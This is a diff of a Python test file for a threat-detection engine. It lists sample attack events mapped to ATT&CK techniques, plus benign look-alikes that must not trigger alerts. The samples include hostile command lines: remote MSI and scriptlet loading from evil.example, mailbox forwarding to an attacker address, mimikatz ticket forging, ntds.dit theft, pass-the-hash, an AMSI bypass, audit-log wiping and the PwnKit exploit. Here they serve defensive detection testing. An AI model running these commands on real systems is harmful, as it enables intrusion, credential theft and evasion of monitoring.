@@ -137,13 +137,21 @@ POSITIVES = [
     (okta("user.mfa.okta_verify.deny_push"), "okta-admin-api", "T1621"),
     # --- Microsoft 365
     (m365("New-InboxRule", message="ForwardTo: attacker@evil.example"), "m365-inbox-rule-forward", "T1114.003"),
-    (m365("New-InboxRule", message="DeleteMessage: True; SubjectContainsWords: invoice"), "m365-inbox-rule-hide", "T1564.008"),
+    (
+        m365("New-InboxRule", message="DeleteMessage: True; SubjectContainsWords: invoice"),
+        "m365-inbox-rule-hide",
+        "T1564.008",
+    ),
     (m365("Set-Mailbox", message="ForwardingSmtpAddress: smtp:x@evil.example"), "m365-inbox-rule-forward", "T1114.003"),
     (m365("Add-MailboxPermission"), "m365-exchange-admin-api", "T1098.002"),
     (m365("Set-MailboxAuditBypassAssociation"), "m365-exchange-admin-api", "T1562.008"),
     (m365("Disable-AntiPhishRule"), "m365-exchange-admin-api", "T1562.001"),
     (m365("MailItemsAccessed"), "m365-exchange-weak-api", "T1114.002"),
-    (m365("New-ManagementRoleAssignment", message="Role: ApplicationImpersonation"), "m365-impersonation-role", "T1098.002"),
+    (
+        m365("New-ManagementRoleAssignment", message="Role: ApplicationImpersonation"),
+        "m365-impersonation-role",
+        "T1098.002",
+    ),
     # --- Windows / Linux / macOS command lines
     (cmd("powershell.exe -nop -w hidden -c IEX $x"), "hidden-window", "T1564.003"),
     (cmd("powershell -WindowStyle Hidden -File C:\\Users\\bob\\AppData\\Local\\a.ps1"), "hidden-window", "T1564.003"),
@@ -176,26 +184,56 @@ POSITIVES = [
     (cmd('wscript.exe "C:\\Users\\bob\\Downloads\\invoice.vbs"'), "script-host-user-dir", "T1059.005"),
     (cmd('cscript.exe //nologo "C:\\Users\\bob\\AppData\\Local\\Temp\\run.js"'), "script-host-user-dir", "T1059.007"),
     (cmd("wscript.exe //e:jscript C:\\ProgramData\\a.txt"), "script-host-user-dir", "T1059.007"),
-    (cmd("cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://evil.example/x.sct"), "signed-script-proxy", "T1216.001"),
+    (
+        cmd(
+            "cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://evil.example/x.sct"
+        ),
+        "signed-script-proxy",
+        "T1216.001",
+    ),
     ({"process": {"name": "cmd.exe", "parent": {"name": "sqlservr.exe"}}}, "sql-server-shell", "T1505.001"),
     (cmd("cmd.exe /c echo xyzzy > \\\\.\\pipe\\xyzzy"), "named-pipe-impersonation", "T1134.001"),
     (cmd("cmstp.exe /ni /s C:\\Users\\Public\\evil.inf"), "cmstp-inf", "T1218.003"),
     (cmd("msiexec /q /i http://evil.example/pkg.msi"), "msiexec-remote", "T1218.007"),
     (cmd("msiexec.exe /y C:\\Users\\Public\\evil.dll"), "msiexec-remote", "T1218.007"),
-    (cmd("InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\a.dll"), "installutil-proxy", "T1218.004"),
+    (
+        cmd("InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\a.dll"),
+        "installutil-proxy",
+        "T1218.004",
+    ),
     (cmd("regasm.exe /U C:\\Users\\Public\\payload.dll"), "regasm-regsvcs-proxy", "T1218.009"),
     (cmd("odbcconf.exe /a {REGSVR C:\\Users\\Public\\x.dll}"), "odbcconf-proxy", "T1218.008"),
     (cmd("mavinject.exe 4120 /INJECTRUNNING C:\\Users\\Public\\x.dll"), "mavinject", "T1218.013"),
     (cmd("control.exe C:\\Users\\bob\\AppData\\Local\\Temp\\x.cpl"), "control-cpl-user-dir", "T1218.002"),
-    (cmd("rundll32.exe advpack.dll,LaunchINFSection C:\\Users\\Public\\x.inf,DefaultInstall_SingleUser,1,"), "rundll32-proxy-exports", "T1218.011"),
+    (
+        cmd("rundll32.exe advpack.dll,LaunchINFSection C:\\Users\\Public\\x.inf,DefaultInstall_SingleUser,1,"),
+        "rundll32-proxy-exports",
+        "T1218.011",
+    ),
     (cmd("forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe"), "indirect-command-execution", "T1202"),
     (cmd("pcalua.exe -a C:\\Users\\Public\\x.exe"), "indirect-command-execution", "T1202"),
-    (cmd("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe C:\\Users\\Public\\build.xml"), "msbuild-inline-task", "T1127.001"),
+    (
+        cmd("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe C:\\Users\\Public\\build.xml"),
+        "msbuild-inline-task",
+        "T1127.001",
+    ),
     (cmd("net use \\\\10.0.0.5\\ADMIN$ /user:corp\\admin P@ss"), "admin-share-mount", "T1021.002"),
     (cmd("copy beacon.exe \\\\fileserver01\\C$\\Windows\\Temp\\beacon.exe"), "admin-share-copy", "T1570"),
-    (cmd("copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\temp\\n.dit"), "shadow-copy-credential-files", "T1003.003"),
-    (cmd("mimikatz.exe \"kerberos::golden /user:admin /domain:corp.local /sid:S-1-5-21-1 /krbtgt:abc /ptt\""), "golden-ticket", "T1558.001"),
-    (cmd("mimikatz \"kerberos::golden /user:x /domain:c /sid:S-1 /target:srv /service:cifs /rc4:abc\""), "silver-ticket", "T1558.002"),
+    (
+        cmd("copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\temp\\n.dit"),
+        "shadow-copy-credential-files",
+        "T1003.003",
+    ),
+    (
+        cmd('mimikatz.exe "kerberos::golden /user:admin /domain:corp.local /sid:S-1-5-21-1 /krbtgt:abc /ptt"'),
+        "golden-ticket",
+        "T1558.001",
+    ),
+    (
+        cmd('mimikatz "kerberos::golden /user:x /domain:c /sid:S-1 /target:srv /service:cifs /rc4:abc"'),
+        "silver-ticket",
+        "T1558.002",
+    ),
     (cmd("Rubeus.exe ptt /ticket:doIF..."), "pass-the-ticket", "T1550.003"),
     (cmd("wmiexec.py -hashes :8846f7eaee8fb117ad06bdd830b7586c corp/admin@10.0.0.5"), "pass-the-hash", "T1550.002"),
     (cmd("net stop MSSQLSERVER /y"), "service-stop-for-impact", "T1489"),
@@ -210,19 +248,59 @@ POSITIVES = [
     (cmd("auditpol /clear /y"), "windows-event-logging-disabled", "T1562.002"),
     (cmd("wevtutil sl Security /e:false"), "windows-event-logging-disabled", "T1562.002"),
     (cmd("auditctl -D"), "linux-audit-disabled", "T1562.012"),
-    ({"powershell": {"file": {"script_block_text": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"}}}, "amsi-bypass", "T1562.001"),
+    (
+        {
+            "powershell": {
+                "file": {"script_block_text": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"}
+            }
+        },
+        "amsi-bypass",
+        "T1562.001",
+    ),
     (cmd("fltmc unload SysmonDrv"), "minifilter-unload", "T1562.001"),
-    (cmd("wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname"), "security-software-discovery", "T1518.001"),
-    (cmd("netsh interface portproxy add v4tov4 listenport=4444 connectaddress=10.0.0.9 connectport=3389"), "portproxy", "T1090.001"),
+    (
+        cmd("wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname"),
+        "security-software-discovery",
+        "T1518.001",
+    ),
+    (
+        cmd("netsh interface portproxy add v4tov4 listenport=4444 connectaddress=10.0.0.9 connectport=3389"),
+        "portproxy",
+        "T1090.001",
+    ),
     (cmd("bcdedit /set testsigning on"), "code-signing-policy", "T1553.006"),
     (cmd("sudo spctl --master-disable"), "code-signing-policy", "T1553.001"),
     (cmd("bcdedit /set {default} bootstatuspolicy ignoreallfailures"), "boot-status-policy", "T1490"),
     (cmd("icacls C:\\Windows\\System32\\x.dll /grant Everyone:F"), "permissions-opened-windows", "T1222.001"),
-    (cmd("copy C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe"), "accessibility-binary-replaced", "T1546.008"),
-    ({"powershell": {"file": {"script_block_text": "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))"}}}, "reflective-assembly-load", "T1620"),
-    ({"powershell": {"file": {"script_block_text": "Get-Keystrokes -LogPath $env:TEMP\\k.log"}}}, "keylogger-api", "T1056.001"),
-    ({"powershell": {"file": {"script_block_text": "$g.CopyFromScreen($b.Location, [Drawing.Point]::Empty, $b.size)"}}}, "screen-capture", "T1113"),
-    (cmd("vaultcmd /listcreds:\"Windows Credentials\" /all"), "credential-manager-access", "T1555.004"),
+    (
+        cmd("copy C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe"),
+        "accessibility-binary-replaced",
+        "T1546.008",
+    ),
+    (
+        {
+            "powershell": {
+                "file": {"script_block_text": "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))"}
+            }
+        },
+        "reflective-assembly-load",
+        "T1620",
+    ),
+    (
+        {"powershell": {"file": {"script_block_text": "Get-Keystrokes -LogPath $env:TEMP\\k.log"}}},
+        "keylogger-api",
+        "T1056.001",
+    ),
+    (
+        {
+            "powershell": {
+                "file": {"script_block_text": "$g.CopyFromScreen($b.Location, [Drawing.Point]::Empty, $b.size)"}
+            }
+        },
+        "screen-capture",
+        "T1113",
+    ),
+    (cmd('vaultcmd /listcreds:"Windows Credentials" /all'), "credential-manager-access", "T1555.004"),
     (cmd("findstr /si password *.xml"), "credentials-in-files", "T1552.001"),
     (cmd("hashcat -m 13100 tickets.txt rockyou.txt"), "password-cracking", "T1110.002"),
     (cmd("kerbrute passwordspray -d corp.local users.txt Winter2024!"), "password-spray-guess", "T1110.003"),
@@ -230,7 +308,11 @@ POSITIVES = [
     (cmd("responder -I eth0 -wrf"), "llmnr-poisoning-relay", "T1557.001"),
     (cmd("python3 PetitPotam.py 10.0.0.9 10.0.0.1"), "forced-authentication-coercion", "T1187"),
     (cmd("certipy find -u user@corp.local -p Pass -vulnerable"), "adcs-abuse", "T1649"),
-    ({"powershell": {"file": {"script_block_text": "Get-DomainTrust; Get-NetComputer -Ping"}}}, "powerview-discovery", "T1482"),
+    (
+        {"powershell": {"file": {"script_block_text": "Get-DomainTrust; Get-NetComputer -Ping"}}},
+        "powerview-discovery",
+        "T1482",
+    ),
     (cmd("echo /tmp/libx.so > /etc/ld.so.preload"), "ld-preload-hijack", "T1574.006"),
     (cmd("at 23:00 /every:M cmd /c C:\\Users\\Public\\x.bat"), "at-job", "T1053.002"),
     (cmd("echo '/tmp/.x &' >> /etc/rc.local"), "rc-script-persistence", "T1037.004"),
@@ -246,16 +328,33 @@ POSITIVES = [
     (cmd("insmod /tmp/.m/diamorphine.ko"), "kernel-module-from-temp", "T1547.006"),
     (cmd("insmod /tmp/.m/diamorphine.ko"), "rootkit-names", "T1014"),
     (cmd("env GCONV_PATH=. CHARSET=PWNKIT pkexec"), "local-exploit", "T1068"),
-    (cmd("sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db \"INSERT INTO access VALUES('kTCCServiceScreenCapture','x',0,2)\""), "tcc-manipulation", "T1548.006"),
+    (
+        cmd(
+            "sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db \"INSERT INTO access VALUES('kTCCServiceScreenCapture','x',0,2)\""
+        ),
+        "tcc-manipulation",
+        "T1548.006",
+    ),
     ({"winlog": {"event_id": 4698}}, "windows-security-events", "T1053.005"),
     ({"winlog": {"event_id": "4732"}}, "windows-security-events", "T1098.007"),
     (
-        {"message": "An operation was performed on an object. Properties: {1131f6ad-9c07-11d1-f79f-00c04fb984f2}", "user": {"name": "jdoe"}},
+        {
+            "message": "An operation was performed on an object. Properties: {1131f6ad-9c07-11d1-f79f-00c04fb984f2}",
+            "user": {"name": "jdoe"},
+        },
         "dcsync-replication-rights",
         "T1003.006",
     ),
     # --- Network / web
-    ({"user_agent": {"original": "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"}}, "scanner-user-agent", "T1595.002"),
+    (
+        {
+            "user_agent": {
+                "original": "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
+            }
+        },
+        "scanner-user-agent",
+        "T1595.002",
+    ),
     ({"user_agent": {"original": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}, "scanner-user-agent", "T1595.002"),
     ({"user_agent": {"original": "Fuzz Faster U Fool v2.1.0 ffuf"}}, "scanner-user-agent", "T1595.003"),
     ({"user_agent": {"original": "gobuster/3.6"}}, "scanner-user-agent", "T1595.003"),
@@ -266,7 +365,11 @@ POSITIVES = [
     ({"url": {"original": "/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--"}}, "web-exploit-payload", "T1190"),
     ({"url": {"original": "/uploads/shell.php?cmd=whoami"}}, "web-shell-request", "T1505.003"),
     (cmd("dig @ns1.corp.example corp.example AXFR"), "dns-zone-transfer", "T1590.002"),
-    ({"message": "client 203.0.113.7#41234 (corp.example): zone transfer 'corp.example/AXFR/IN' denied"}, "dns-zone-transfer", "T1590.002"),
+    (
+        {"message": "client 203.0.113.7#41234 (corp.example): zone transfer 'corp.example/AXFR/IN' denied"},
+        "dns-zone-transfer",
+        "T1590.002",
+    ),
     (cmd("onesixtyone -c dict.txt 10.0.0.0/24"), "snmp-attack-tools", "T1602.001"),
     (cmd("snmpset -v2c -c private 10.0.0.1 1.3.6.1.4.1.9.9.96.1.1.1.1.2.111 i 1"), "network-config-pull", "T1602.002"),
     ({"message": "copy running-config tftp://203.0.113.9/r1.cfg"}, "network-config-pull", "T1602.002"),
@@ -276,7 +379,10 @@ POSITIVES = [
 # (benign alert, indicator ids that must stay quiet)
 NEGATIVES = [
     (aws("CreateUserPoolClient"), ["aws-iam-persistence-api"]),
-    (aws("AttachUserPolicy", message='{"policyArn":"arn:aws:iam::aws:policy/ReadOnlyAccess"}'), ["aws-admin-policy-grant"]),
+    (
+        aws("AttachUserPolicy", message='{"policyArn":"arn:aws:iam::aws:policy/ReadOnlyAccess"}'),
+        ["aws-admin-policy-grant"],
+    ),
     (aws("DescribeDetector"), ["aws-security-service-tamper", "cloud-trail-stop"]),
     (aws("UpdateTrail"), ["cloud-trail-stop"]),
     (aws("DeleteDetector"), ["cloud-trail-stop"]),
@@ -297,11 +403,19 @@ NEGATIVES = [
     (okta("user.session.start"), ["okta-admin-api", "okta-weak-api"]),
     (okta("user.mfa.factor.activate"), ["okta-admin-api", "mfa-modified"]),
     (okta("policy.lifecycle.create"), ["okta-admin-api"]),
-    (m365("New-InboxRule", message="MoveToFolder: Newsletters; From: news@vendor.example"), ["m365-inbox-rule-forward"]),
+    (
+        m365("New-InboxRule", message="MoveToFolder: Newsletters; From: news@vendor.example"),
+        ["m365-inbox-rule-forward"],
+    ),
     (m365("Set-Mailbox", message="RetentionPolicy: Default"), ["m365-inbox-rule-forward"]),
     (m365("Get-MailboxPermission"), ["m365-exchange-admin-api"]),
     (m365("New-ManagementRoleAssignment", message="Role: Mail Recipients"), ["m365-impersonation-role"]),
-    (cmd("powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\SystemTemp\\x.ps1 -WindowStyle Hidden"), ["hidden-window"]),
+    (
+        cmd(
+            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\SystemTemp\\x.ps1 -WindowStyle Hidden"
+        ),
+        ["hidden-window"],
+    ),
     (cmd("powershell.exe -w Normal -File deploy.ps1"), ["hidden-window"]),
     (cmd("base64 -d cert.b64 > cert.pem"), ["base64-decode-to-shell"]),
     (cmd("python3 -c 'import sys; print(sys.version)'"), ["python-inline-payload"]),
@@ -315,15 +429,24 @@ NEGATIVES = [
     (cmd("git clone https://github.com/example/minerva"), ["crypto-miner"]),
     ({"dns": {"question": {"name": "www.2minersfanclub.example"}}}, ["mining-pool-traffic"]),
     ({"process": {"name": "kworker/0:1"}}, ["kernel-thread-masquerade"]),
-    (cmd("osascript -e 'display notification \"Backup done\"'"), ["osascript-credential-prompt", "osascript-suspicious"]),
+    (
+        cmd("osascript -e 'display notification \"Backup done\"'"),
+        ["osascript-credential-prompt", "osascript-suspicious"],
+    ),
     (cmd("cscript //nologo C:\\Windows\\System32\\slmgr.vbs /ato"), ["script-host", "script-host-user-dir"]),
     ({"process": {"name": "sqlceip.exe", "parent": {"name": "sqlservr.exe"}}}, ["sql-server-shell"]),
     (cmd("cmd.exe /c echo done > C:\\temp\\out.txt"), ["named-pipe-impersonation"]),
     (cmd("msiexec.exe /i C:\\Installers\\7zip.msi /qn"), ["msiexec-remote"]),
     (cmd("InstallUtil.exe C:\\Program Files\\Vendor\\Service.exe"), ["installutil-proxy"]),
-    (cmd("regasm.exe /codebase \"C:\\Program Files\\Vendor\\Addin.dll\""), ["regasm-regsvcs-proxy"]),
-    (cmd("rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 132 C:\\drivers\\x.inf"), ["rundll32-proxy-exports"]),
-    (cmd("msbuild.exe C:\\Users\\dev\\source\\repos\\App\\App.csproj /p:Configuration=Release"), ["msbuild-inline-task"]),
+    (cmd('regasm.exe /codebase "C:\\Program Files\\Vendor\\Addin.dll"'), ["regasm-regsvcs-proxy"]),
+    (
+        cmd("rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 132 C:\\drivers\\x.inf"),
+        ["rundll32-proxy-exports"],
+    ),
+    (
+        cmd("msbuild.exe C:\\Users\\dev\\source\\repos\\App\\App.csproj /p:Configuration=Release"),
+        ["msbuild-inline-task"],
+    ),
     (cmd("net use Z: \\\\fileserver01\\shared"), ["admin-share-mount"]),
     (cmd("copy report.xlsx \\\\fileserver01\\shared\\reports\\"), ["admin-share-copy"]),
     (cmd("vssadmin list shadows"), ["shadow-copy-create", "shadow-copy-credential-files"]),
@@ -332,7 +455,10 @@ NEGATIVES = [
     (cmd("zip -r release.zip dist/"), ["staging-archive-sensitive"]),
     (cmd("ditto -c -k --keepParent build/App.app App.zip"), ["staging-archive-sensitive"]),
     (cmd("curl -x http://proxy.corp:3128 https://example.com"), ["tor-proxy"]),
-    (cmd("curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh -o install.sh"), ["paste-site-download"]),
+    (
+        cmd("curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh -o install.sh"),
+        ["paste-site-download"],
+    ),
     (cmd("wevtutil qe Security /c:5"), ["windows-event-logging-disabled", "event-log-clear"]),
     (cmd("auditctl -l"), ["linux-audit-disabled"]),
     (cmd("fltmc filters"), ["minifilter-unload"]),
@@ -350,19 +476,28 @@ NEGATIVES = [
     (cmd("kubectl get pods -n prod"), ["kubectl-exec", "kubernetes-secret-read"]),
     (cmd("modprobe nvidia"), ["kernel-module-from-temp", "kernel-module-load"]),
     (cmd("apt-get install --only-upgrade openssl  # fixes CVE-2024-12797"), ["local-exploit"]),
-    (cmd("sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db 'select client from access'"), ["tcc-manipulation"]),
+    (
+        cmd("sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db 'select client from access'"),
+        ["tcc-manipulation"],
+    ),
     ({"winlog": {"event_id": 4624}}, ["windows-security-events"]),
     (
         {"message": "Properties: {1131f6ad-9c07-11d1-f79f-00c04fb984f2}", "user": {"name": "DC02$"}},
         ["dcsync-replication-rights"],
     ),
-    ({"user_agent": {"original": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0"}}, ["scanner-user-agent"]),
+    (
+        {"user_agent": {"original": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0"}},
+        ["scanner-user-agent"],
+    ),
     ({"user_agent": {"original": "Nessus SOAP"}}, ["scanner-user-agent"]),
     ({"url": {"original": "/search?q=union+station+opening+hours"}}, ["web-exploit-payload", "log4shell"]),
     ({"url": {"original": "/docs/${version}/index.html"}}, ["log4shell", "log4shell-obfuscated"]),
     ({"url": {"original": "/api/v1/exec?command=status"}}, ["web-shell-request"]),
     (cmd("dig corp.example MX"), ["dns-zone-transfer"]),
-    ({"message": "client 10.0.0.3#53012 (corp.example): transfer of 'corp.example/IN': AXFR started"}, ["dns-zone-transfer"]),
+    (
+        {"message": "client 10.0.0.3#53012 (corp.example): transfer of 'corp.example/IN': AXFR started"},
+        ["dns-zone-transfer"],
+    ),
     (cmd("echo Meeting at 10:30 in room 4 > notes.txt"), ["at-job"]),
     (cmd("snmpget -v2c -c public 10.0.0.1 sysUpTime.0"), ["snmp-attack-tools", "snmp-walk"]),
     (cmd("ping -c 4 10.0.0.1"), ["icmp-tunnel"]),
